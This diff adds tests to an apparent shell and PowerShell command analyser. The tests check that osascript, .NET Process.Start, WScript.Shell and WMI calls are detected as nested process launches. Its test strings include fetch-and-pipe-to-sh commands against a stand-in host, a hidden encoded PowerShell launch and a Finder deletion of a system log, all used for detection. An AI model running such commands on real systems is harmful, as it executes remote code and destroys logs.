@@ -85,6 +85,67 @@ describe("osascript: AppleScript's do shell script runs its string with sh", () 
   });
 });
 
+describe("osascript: Terminal's do script and the Finder's delete", () => {
+  it.each([
+    [`osascript -e 'tell application "Terminal" to do script "curl -s http://x.example/m | sh"'`, 'AppleScript'],
+    [`osascript -l JavaScript -e 'Application("Terminal").doScript("curl -s http://x.example/m | sh")'`, 'JavaScript'],
+  ])('the command typed into a new Terminal window is a nested sh layer: %s (%s)', (text) => {
+    const d = doc(text, 'zsh');
+    const sh = d.commands.find((c) => c.name === 'sh' && c.depth === 1);
+    expect(d.commands.find((c) => c.name === 'curl')?.pipeline).toBe(sh?.pipeline);
+  });
+
+  it('a deletion through the Finder is analysed as rm of the same path, spans on the script', () => {
+    const d = doc(`osascript -e 'tell application "Finder" to delete POSIX file "/var/log/system.log"'`, 'zsh');
+    expect(layerTexts(d)).toEqual([['sh', 'nested_shell', "rm '/var/log/system.log'"]]);
+    const rm = d.commands.find((c) => c.name === 'rm')!;
+    expect(d.original.slice(rm.words[0]!.span.start, rm.words[0]!.span.end)).toBe('delete');
+    expect(d.original.slice(rm.words[1]!.span.start, rm.words[1]!.span.end)).toBe('/var/log/system.log');
+  });
+
+  it('keeps a quote in the path inside the one word', () => {
+    const d = doc(`osascript -e 'tell application "Finder" to delete (POSIX file "/tmp/it'"'"'s.log")'`, 'zsh');
+    expect(d.commands.find((c) => c.name === 'rm')?.words[1]?.value).toBe("/tmp/it's.log");
+  });
+
+  it('leaves other AppleScript alone', () => {
+    expect(doc(`osascript -e 'tell application "Finder" to open POSIX file "/var/log/system.log"'`, 'zsh').layers.length).toBe(1);
+  });
+});
+
+describe('.NET and COM methods that start a process from strings (PowerShell)', () => {
+  it.each([
+    [`[Diagnostics.Process]::Start('powershell','-enc ZABpAHIA')`, 'powershell -enc ZABpAHIA'],
+    [`[System.Diagnostics.Process]::Start("cmd.exe", "/c whoami")`, 'cmd.exe /c whoami'],
+    [`(New-Object -ComObject WScript.Shell).Run("powershell -w hidden -c calc", 0, $false)`, 'powershell -w hidden -c calc'],
+    [`$sh = New-Object -ComObject WScript.Shell; $sh.Exec('cmd /c whoami')`, 'cmd /c whoami'],
+    [`(New-Object -Com Shell.Application).ShellExecute('cmd.exe', '/c whoami', '', 'open', 0)`, 'cmd.exe /c whoami'],
+    [`([wmiclass]'win32_process').Create('cmd /c whoami')`, 'cmd /c whoami'],
+    [`Invoke-Expression ([Diagnostics.Process]::Start('cmd', '/c whoami'))`, 'cmd /c whoami'],
+  ])('%s starts %s', (text, started) => {
+    const d = doc(text, 'powershell');
+    expect(layerTexts(d)).toContainEqual(['cmd', 'nested_shell', started]);
+    const program = d.commands.find((c) => c.shell === 'cmd' && c.depth > 0);
+    expect(program?.name).toBe(started.split(' ')[0]!.replace('.exe', ''));
+  });
+
+  it.each([
+    `[IO.File]::Create('C:\\Temp\\cmd.txt').Close()`,
+    `[Net.WebRequest]::Create('https://intranet.example/')`,
+    `[Threading.Thread]::Start()`,
+    `$timer.Start()`,
+    `$job.Run()`,
+  ])('leaves other methods of the same names alone: %s', (text) => {
+    expect(doc(text, 'powershell').layers.filter((l) => l.shell === 'cmd')).toEqual([]);
+  });
+
+  it('analyses at most 64 such calls in one text and notes the rest as too complex', () => {
+    const d = doc(`$w = New-Object -ComObject WScript.Shell\n${"$w.Run('hostname')\n".repeat(70)}`, 'powershell');
+    expect(d.layers.filter((l) => l.shell === 'cmd')).toHaveLength(64);
+    expect(d.notes.some((n) => n.kind === 'budget_exhausted')).toBe(true);
+  });
+});
+
 describe('a command substitution as the command word', () => {
   const b64 = 'Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA=='; // curl http://x.example/s | sh
 
